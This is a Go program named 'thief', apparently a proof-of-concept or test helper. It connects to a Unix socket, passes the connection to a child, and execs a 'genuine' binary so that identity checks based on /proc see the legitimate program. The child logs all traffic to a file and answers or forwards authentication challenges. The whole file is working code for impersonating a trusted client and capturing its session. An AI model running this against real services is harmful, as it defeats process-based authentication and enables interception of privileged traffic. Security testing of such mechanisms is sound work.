// Command thief connects, lets a child keep the connection, and becomes the
// genuine program. The child writes all that it is given to a file, and answers
// a challenge by itself or has the genuine program answer it elsewhere.
//
//	thief SOCKET GENUINE OUT answer|forward
package main

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"strconv"
	"syscall"
	"time"
)

func main() {
	if os.Args[1] == "keep" {
		keep(os.Args[2], os.Args[3], os.Args[4])
		return
	}
	socket, genuine, out, mode := os.Args[1], os.Args[2], os.Args[3], os.Args[4]
	c, err := net.Dial("unixpacket", socket)
	check(err)
	f, err := c.(*net.UnixConn).File()
	check(err)
	child := exec.Command("/proc/self/exe", "keep", genuine, out, mode)
	child.Stdout, child.Stderr = os.Stdout, os.Stderr
	child.ExtraFiles = []*os.File{f}
	check(child.Start())
	argv := []string{genuine}
	if mode == "forward" {
		for { // until the child listens
			if _, err := os.Stat(out + ".sock"); err == nil {
				break
			}
			time.Sleep(time.Millisecond)
		}
		argv = append(argv, out+".sock")
	}
	check(syscall.Exec(genuine, argv, os.Environ()))
}

func keep(genuine, out, mode string) {
	f, err := os.OpenFile(out, os.O_CREATE|os.O_WRONLY, 0o644)
	check(err)
	c, err := net.FileConn(os.NewFile(3, "stolen"))
	check(err)
	var inner net.Conn
	if mode == "forward" {
		l, err := net.Listen("unixpacket", out+".sock")
		check(err)
		inner, err = l.Accept()
		check(err)
	}
	for { // until the parent has become the genuine program
		exe, _ := os.Readlink("/proc/" + strconv.Itoa(os.Getppid()) + "/exe")
		if exe == genuine {
			break
		}
		time.Sleep(time.Millisecond)
	}
	fmt.Println("ready")
	b := make([]byte, 8192)
	for {
		n, err := c.Read(b)
		if err != nil || n == 0 {
			return
		}
		_, err = f.Write(b[:n])
		check(err)
		if n > 4 && b[4] == 1 { // a challenge
			if mode == "forward" {
				_, err = inner.Write(b[:n])
				check(err)
				n, err = inner.Read(b)
				check(err)
			} else {
				b[4] = 2
			}
			_, err = c.Write(b[:n])
			check(err)
		}
	}
}

func check(err error) {
	if err != nil {
		fmt.Println("thief:", err)
		os.Exit(3)
	}
}
